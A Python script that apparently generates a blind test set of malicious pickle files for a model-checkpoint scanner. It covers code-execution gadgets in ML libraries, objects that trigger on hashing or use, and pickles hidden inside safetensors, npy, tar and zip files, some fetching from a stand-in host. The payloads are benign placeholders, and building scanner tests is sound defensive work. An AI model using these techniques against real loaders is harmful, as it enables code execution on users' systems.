"""A third blind round: gadgets in libraries that checkpoints really use, objects that act when they are compared, hashed, printed or
collected, and pickles that wait in files of other kinds."""

import base64
import bz2
import gzip
import json
import lzma
import struct
import zlib

from assemble import *
from containers import legacy, npy, raw_zip, tarred, torch_zip, zipped


def reduced(callee, *arguments):
    return pickle(call(callee, *arguments), 4)


def with_state(module, attribute, state, protocol=4):
    return pickle(build(new(name(module, attribute)), state), protocol)


def gadgets():
    yield "torch-hub-load.pkl", reduced(name("torch.hub", "load"), "stranger/repo", "model")
    yield "torch-hub-import.pkl", reduced(name("torch.hub", "_load_local"), "/tmp/repo", "model")
    yield "load-inline.pkl", reduced(name("torch.utils.cpp_extension", "load_inline"), "m", "int x;")
    yield "f2py-compile.pkl", reduced(name("numpy.f2py", "compile"), "end", "m")
    yield "exec-command.pkl", reduced(name("numpy.distutils.exec_command", "exec_command"), "true")
    yield "cpuinfo-getoutput.pkl", reduced(name("numpy.distutils.cpuinfo", "getoutput"), "true")
    yield "npyio-load.pkl", reduced(name("numpy", "load"), "/tmp/x.npy", None, True)
    yield "npy-fromfile.pkl", reduced(name("numpy", "fromfile"), "/etc/passwd", "u1")
    yield "npy-savetxt.pkl", reduced(name("numpy", "savetxt"), "/tmp/marker", [1.0])
    yield "ndarray-tofile.pkl", reduced(name("numpy", "ndarray.tofile"), call(name("numpy", "array"), [1]), "/tmp/marker")
    yield "pandas-eval.pkl", reduced(name("pandas.core.computation.eval", "eval"), "@pd.io.common.os.system('true')")
    yield "pandas-read-pickle.pkl", reduced(name("pandas.io.pickle", "read_pickle"), "http://x.invalid/p")
    yield "pandas-to-csv.pkl", reduced(name("pandas", "DataFrame.to_csv"), call(name("pandas", "DataFrame"), {}), "/tmp/marker")
    yield "joblib-load.pkl", reduced(name("joblib.numpy_pickle", "load"), "/tmp/x")
    yield "dynamic-module.pkl", reduced(name("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "m.C", "stranger/repo")
    yield "pipeline.pkl", reduced(name("transformers.pipelines", "pipeline"), "text-generation", "stranger/repo")
    yield "snapshot.pkl", reduced(name("huggingface_hub._snapshot_download", "snapshot_download"), "stranger/repo")
    yield "pip-main.pkl", reduced(name("pip._internal.cli.main", "main"), ["install", "x"])
    yield "pip-main-runner.pkl", reduced(name("pip", "main"), ["install", "x"])
    yield "pydoc-pager.pkl", reduced(name("pydoc", "pipepager"), "x", "true")
    yield "pydoc-locate.pkl", pickle(call(call(name("pydoc", "locate"), "os.system"), MARKER), 4)
    yield "webbrowser.pkl", reduced(name("webbrowser", "open"), "http://x.invalid")
    yield "logging-config.pkl", reduced(name("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": {"()": "os.system", "command": "true"}}})
    yield "distutils-spawn.pkl", reduced(name("distutils.spawn", "spawn"), ["true"])
    yield "setuptools-spawn.pkl", reduced(name("setuptools._distutils.spawn", "spawn"), ["true"])
    yield "shelve-open.pkl", reduced(name("shelve", "open"), "/tmp/s")
    yield "ensurepip.pkl", reduced(name("ensurepip", "bootstrap"))
    yield "venv-create.pkl", reduced(name("venv", "create"), "/tmp/v")
    yield "compileall.pkl", reduced(name("compileall", "compile_file"), "/tmp/x.py")
    yield "lib2to3.pkl", reduced(name("lib2to3.pgen2.driver", "load_grammar"), "/tmp/g")
    yield "unittest-load.pkl", reduced(name("unittest.loader", "TestLoader.loadTestsFromName"), call(name("unittest.loader", "TestLoader")), "antigravity")
    yield "doctest-exec.pkl", reduced(name("doctest", "debug_script"), "print()")
    yield "trace-run.pkl", reduced(name("trace", "Trace.run"), call(name("trace", "Trace")), "print()")
    yield "bdb-run.pkl", reduced(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), "print()")
    yield "code-runsource.pkl", reduced(name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), "print()")
    yield "timeit-string.pkl", reduced(name("timeit", "repeat"), "print()", "pass")
    yield "cgitb-enable.pkl", reduced(name("cgitb", "enable"), 1, "/tmp")
    yield "resource-limit.pkl", reduced(name("resource", "setrlimit"), 0, (1, 1))
    yield "faulthandler.pkl", reduced(name("faulthandler", "_sigsegv"))
    yield "gc-objects.pkl", reduced(name("gc", "get_objects"))
    yield "sympy-parse.pkl", reduced(name("sympy.parsing.sympy_parser", "parse_expr"), "__import__('os').system('true')")
    yield "numexpr.pkl", reduced(name("numexpr.necompiler", "evaluate"), "1")
    yield "mpmath.pkl", reduced(name("mpmath.ctx_mp", "MPContext.eval"), "1")
    yield "jinja-template.pkl", reduced(name("jinja2.environment", "Template"), "{{ 1 }}")
    yield "yaml-unsafe.pkl", reduced(name("yaml", "unsafe_load"), "!!python/object/apply:os.system [true]")
    yield "matplotlib-rc.pkl", reduced(name("matplotlib", "rc_params_from_file"), "/tmp/x")
    yield "nltk-data.pkl", reduced(name("nltk.data", "load"), "http://x.invalid/p.pickle")
    yield "keras-load.pkl", reduced(name("keras.models", "load_model"), "/tmp/x", None, True, False)
    yield "lightning-class.pkl", reduced(name("lightning_utilities.core.imports", "lazy_import"), "os")
    yield "einops-pack.pkl", reduced(name("einops._torch_specific", "exec"), "1")
    yield "fsspec-open.pkl", reduced(name("fsspec.core", "open"), "http://x.invalid/p")
    yield "cloudpickle-subimport.pkl", reduced(name("cloudpickle.cloudpickle", "subimport"), "antigravity")
    yield "dill-getattr.pkl", pickle(call(call(name("dill._dill", "_get_attr"), call(name("dill._dill", "_import_module"), "os"), "system"), MARKER), 4)


def objects():
    yield "hash-of-lambda.pkl", pickle({Raw(literal(new(name("unittest.mock", "MagicMock")))): 1}, 4)
    yield "default-factory.pkl", pickle(call(name("collections", "defaultdict"), name("os", "getcwd")), 4)
    yield "counter-of-map.pkl", reduced(name("collections", "Counter"), call(name("builtins", "map"), SYSTEM, [MARKER]))
    yield "deque-of-map.pkl", reduced(name("collections", "deque"), call(name("builtins", "map"), name("os", "remove"), ["/tmp/marker"]))
    yield "ordered-of-starmap.pkl", reduced(name("collections", "OrderedDict"), call(name("itertools", "starmap"), SYSTEM, [(MARKER,)]))
    yield "set-of-filter.pkl", reduced(name("builtins", "set"), call(name("builtins", "filter"), SYSTEM, [MARKER]))
    yield "sorted-key.pkl", reduced(name("builtins", "max"), [1, 2])[:-1] + b"0" + literal(call(name("heapq", "nsmallest"), 1, [MARKER], SYSTEM)) + STOP
    yield "finalize.pkl", reduced(name("weakref", "finalize"), call(name("collections", "OrderedDict")), SYSTEM, MARKER)
    yield "iter-sentinel.pkl", reduced(name("builtins", "list"), call(name("builtins", "iter"), name("os", "getpid"), 0))
    yield "estimator-callable.pkl", with_state("sklearn.preprocessing._function_transformer", "FunctionTransformer", {"func": SYSTEM, "validate": False})
    yield "estimator-scorer.pkl", with_state("sklearn.model_selection._search", "GridSearchCV", {"scoring": SYSTEM, "estimator": None})
    yield "vectorizer-tokenizer.pkl", with_state("sklearn.feature_extraction.text", "TfidfVectorizer", {"tokenizer": name("os", "popen"), "vocabulary_": {}})
    yield "module-hook.pkl", with_state("torch.nn.modules.linear", "Linear", {"_forward_hooks": {1: name("builtins", "exec")}, "training": False}, 2)
    yield "optimizer-hook.pkl", with_state("torch.optim.adam", "Adam", {"_optimizer_step_pre_hooks": {1: SYSTEM}}, 2)
    yield "collate.pkl", with_state("torch.utils.data.dataloader", "DataLoader", {"collate_fn": SYSTEM}, 2)
    yield "tensor-class.pkl", pickle(call(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, name("torch", "Tensor"), (MARKER,), {}), 2)
    yield "parameter-state.pkl", pickle(call(name("torch._utils", "_rebuild_parameter_with_state"), None, True, {}, {"__class__": name("subprocess", "Popen")}), 2)
    yield "wrapper-subclass.pkl", pickle(call(name("torch._utils", "_rebuild_wrapper_subclass"), name("subprocess", "Popen"), None, (1,), (1,), 0, None, None, False), 2)
    yield "partial-state.pkl", pickle(build(call(name("functools", "partial"), name("builtins", "print")), (SYSTEM, (MARKER,), {}, {})), 4)
    yield "lambda-scheduler.pkl", with_state("torch.optim.lr_scheduler", "LambdaLR", {"lr_lambdas": [SYSTEM]}, 2)


def files_in_others():
    yield "zip-in-safetensors-tail.safetensors", safetensors_with(torch_zip(HOSTILE))
    yield "pickle-in-metadata.safetensors", safetensors_with(b"", {"format": "pt", "config": base64.b64encode(HOSTILE).decode()})
    yield "lzma-alone.joblib", lzma.compress(HOSTILE, lzma.FORMAT_ALONE)
    yield "raw-deflate-twice.joblib", zlib.compress(zlib.compress(HOSTILE))
    yield "zlib-no-header-gz.pkl", gzip.compress(bz2.compress(HOSTILE))
    yield "npz-object-member.npz", zipped([("a.npy", npy(pickle([1.0], 2), descr="<f8")), ("b.npy", npy(HOSTILE))])
    yield "npy-structured-object.npy", npy(HOSTILE, descr="[('a', '<f4'), ('b', '|O')]")
    yield "npy-version-3.npy", npy(HOSTILE, (3, 0))
    yield "pt-in-tar-in-zip.nemo", tarred([("model_config.yaml", b"name: x\n"), ("model_weights.ckpt", torch_zip(HOSTILE))], "w:gz")
    yield "wheel-like.zip", zipped([("model/__init__.py", b"import os; os.system('true')\n"), ("data.bin", HOSTILE)])
    yield "legacy-torch.pth", legacy(HOSTILE)
    yield "two-pickles-in-npy.npy", npy(HONEST + HOSTILE)


def safetensors_with(tail, metadata=None):
    header = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    if metadata:
        header["__metadata__"] = metadata
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + bytes(8) + tail


def files():
    yield from gadgets()
    yield from objects()
    yield from files_in_others()
